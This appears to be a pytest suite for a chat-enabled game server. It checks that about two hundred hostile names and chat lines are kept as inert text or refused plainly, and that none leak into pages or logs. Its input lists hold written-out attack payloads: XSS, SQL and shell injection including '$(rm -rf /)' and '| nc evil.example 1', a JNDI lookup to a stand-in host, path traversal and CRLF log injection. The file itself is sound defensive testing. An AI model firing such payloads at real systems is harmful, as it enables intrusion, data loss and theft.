"""Two hundred hostile names and lines of chat: kept as the text they are, or refused in one clear line."""

import io
import json
import unicodedata
from typing import Any

import pytest

pytestmark = pytest.mark.slow

MARKUP = [
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<math href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>'>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<link rel=stylesheet href=//evil>",
    "<style>@import '//evil'</style>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<form action=//evil><input>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>1</script>",
    "<noscript><p title='</noscript>'>",
    "<!--<script>-->",
    "<![CDATA[<script>]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM 'file:///'>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3C;script",
    "&amp;&lt;&quot;",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    '"onmouseover="alert(1)',
    "'onmouseover='alert(1)",
    "` onmouseover=alert(1) `",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:msgbox(1)",
    "expression(alert(1))",
]
CODE = [
    "{{7*7}}",
    "{{constructor.constructor('x')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% debug %}",
    "{ $name }",
    "{ -brand }",
    "{ NUMBER($x) }",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "`id`",
    "; cat /etc/passwd",
    "| nc evil.example 1",
    "&& shutdown now",
    "%s%s%s%n",
    "%(name)s",
    "{0.__class__}",
    "{name!r}",
    "__import__('os')",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__class__",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "1e309",
    "0x7f",
    "1/0",
    "[object Object]",
    "'; DROP TABLE people; --",
    "' OR '1'='1",
    '" OR ""="',
    "'; UPDATE events SET body=''; --",
    "1; SELECT pg_sleep(10)",
    "Robert'); DROP TABLE students;--",
    "\\'; --",
    "%27 OR 1=1",
    "$where: 1",
    "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "/dev/null",
    "CON",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example",
    '{"do":"start"}',
    '","name":"Eve',
    '"}{"type":"news"',
    '\\"},{\\"a\\":',
    "[1,2,3]",
    '{"type":"answer"}',
    '{"__proto__":{"x":1}}',
    "\\",
    '"',
    "'",
    "`",
    "-",
    "--",
    "/*",
    "*/",
    "//",
    "#",
    "@everyone",
    "=1+1",
    "=cmd|'/c calc'!A1",
    "+1",
    "event='forged' level=error",
    '{"level": "error", "event": "x"}',
    "INFO: all is well",
]
LETTERS = [
    "Zoë",
    "Ann\u00a0",
    "名前",
    "علي",
    "שלום",
    "नमस्ते",
    "🏎🏁🔥",
    "👍🏽",
    "🇩🇪",
    "e\u0301\u0302\u0303",
    "Z" + "\u0321\u0334\u035d" * 12,
    "ﷺ" * 13,
    "\U0001d504\U0001d52b\U0001d52b",
    "\uff21\uff4e\uff4e",
    "\u0430nn",
    "ß" * 40,
    "İ" * 40,
    "\u0131",
    "\ufb01",
    "Ⅷ",
    "½",
    "\u2028",
    "\u2029",
    "\u3000",
    "x" * 40,
    "x" * 41,
    "x" * 500,
    "x" * 501,
    "x" * 60_000,
]
CONTROL = [
    "a\x00b",
    "\x00",
    "a\rb",
    "a\nb",
    "a\r\nSet-Cookie: blacktop=evil",
    "a\r\n\r\n<html>",
    "a\nevent: forged",
    'x"\n{"level": "error", "event": "forged"}',
    "a\tb",
    "a\x08b",
    "a\x7fb",
    "a\x0bb",
    "a\x0cb",
    "\x1b[2J",
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07x",
    "\x9b2J",
    "\x85",
    "\u200b",
    "a\u200bb",
    "a\u200db",
    "a\u200eb",
    "a\u202eb",
    "\u202enimda",
    "a\u2066b",
    "a\u2069b",
    "\u2060",
    "\ufeffAnn",
    "\ufff9",
    "\U000e0041",
    "\ue000",
    "\uffff",
    "\ufdd0",
    "\u061c",
    "\u180e",
    "\u00ad",
    "👨\u200d👩\u200d👧",
    "",
    " ",
    "   ",
]
TEXTS = MARKUP + CODE + LETTERS + CONTROL


def is_told_plainly(refused: Any) -> bool:
    """Whether a refusal is one line for people, without a traceback."""
    told = refused.json()
    line = told.get("message") or told.get("line", {}).get("text", "")
    return refused.status_code in (400, 409, 413) and 10 < len(line) < 200 and "\n" not in line


def is_json(answer: Any) -> bool:
    """Whether no browser could take an answer for a page."""
    return bool(
        answer.headers["content-type"].split(";")[0] == "application/json"
        and answer.headers["x-content-type-options"] == "nosniff"
        and "default-src 'self'" in answer.headers["content-security-policy"]
    )


def tidied(text: str) -> str:
    """A line of chat as it is kept: blanks of all kinds are one blank."""
    return " ".join(text.split())


def test_there_are_two_hundred() -> None:
    assert len(set(TEXTS)) >= 200


def test_hostile_names_are_text_or_refused(server: Any, log: io.StringIO) -> None:
    ann = server.guest("Ann")
    kept = []
    for text in TEXTS:
        answer = ann.patch(
            "/api/me", content=json.dumps({"name": text}), headers={"content-type": "application/json"}
        )
        assert is_json(answer), text
        if answer.status_code == 200:
            kept.append(unicodedata.normalize("NFC", text).strip())
            assert answer.json()["name"] == ann.get("/api/me").json()["name"] == kept[-1]
        else:
            assert is_told_plainly(answer), (text, answer.text)
    assert len(kept) > 120
    assert not set(kept) & set(CONTROL)
    assert_quiet(log)


def test_hostile_names_sit_at_tables_as_text(server: Any, log: io.StringIO) -> None:
    ann, ben = server.guest("Ann"), server.guest("Ben")
    code = server.open_table(ann, settings={"is_public": True})
    for text in [each for each in TEXTS if len(each) <= 40]:
        sat = server.ask(ben, code, "sit", chair=1, name=text or "\x00")
        assert is_json(sat), text
        if sat.status_code != 200:
            assert is_told_plainly(sat), (text, sat.text)
            continue
        for page in (f"/api/tables/{code}?language=en", f"/api/tables/{code}?language=de"):
            seen = ann.get(page)
            assert is_json(seen)
            assert tidied(seen.json()["sight"]["seats"][1]["name"]) == tidied(text)
        server.ask(ben, code, "leave").raise_for_status()
    assert is_json(ann.get("/api/tables"))
    assert_quiet(log)


@pytest.mark.parametrize("over", ["http", "socket"])
def test_hostile_chat_is_text_or_refused(server: Any, log: io.StringIO, over: str) -> None:
    ann = server.guest("Ann")
    code = server.open_table(ann)
    before, kept = server.length(code), []
    with server.joined(ann, code) as socket:
        for number, text in enumerate(TEXTS):
            if over == "http":
                answer = server.ask(ann, code, "say", text=text)
                is_kept = answer.status_code == 200
                assert is_kept or is_told_plainly(answer), (text, answer.text)
            else:
                is_kept = said(socket, f"line-{number:04}", text)
            if is_kept:
                kept.append(tidied(text))
    assert server.length(code) - before == len(kept) > 130
    assert not set(kept) & set(CONTROL)
    told = ann.get(f"/api/tables/{code}").json()["entries"]
    assert [entry["text"] for entry in told if entry["what"] == "said"] == kept[-200:][-len(told) :]
    assert_quiet(log)


def said(socket: Any, name: str, text: str) -> bool:
    """Whether a line was kept; what cannot be read at all is a mistake, and too many of them end it."""
    if not 1 <= len(text) <= 500:
        return False
    socket.send(json.dumps({"do": "say", "id": name, "text": text}))
    while True:
        heard = json.loads(socket.recv(10))
        if heard["type"] in ("answer", "refusal"):
            assert heard["id"] == name
            assert heard["type"] == "answer" or "\n" not in heard["line"]["text"]
            return bool(heard["type"] == "answer")


def test_pages_hold_nothing_that_anybody_typed(server: Any) -> None:
    name = "<i>Mallory</i>"
    ann = server.guest(name)
    code = server.open_table(ann, settings={"is_public": True})
    server.ask(ann, code, "say", text=name).raise_for_status()
    paths = ("/", f"/t/{code}", "/schema", "/%3Ci%3EMallory", "/app.js", f"/t/{code}?name=Mallory")
    for path in paths:
        assert "Mallory" not in ann.get(path).text


def test_moves_that_are_none_come_back_as_text(server: Any, log: io.StringIO) -> None:
    ann = server.guest("Ann")
    code = server.open_table(ann, chairs=[{}, {"for": "bot", "bot": "bold"}], start=True)
    for text in [each for each in TEXTS if 1 <= len(each) <= 200]:
        refused = server.ask(ann, code, "choose", move=text)
        assert is_json(refused)
        assert refused.json()["kind"] in ("illegal", "stale", "not-asked"), text
    assert_quiet(log)


def assert_quiet(log: io.StringIO) -> None:
    """Every line of the operator's log is one of ours: nothing that was typed is in it."""
    for line in log.getvalue().split("\n")[:-1]:
        told = json.loads(line)
        assert told["event"] == "asked", line
        assert set(told) <= {"method", "route", "status", "ms", "event", "level", "timestamp"}
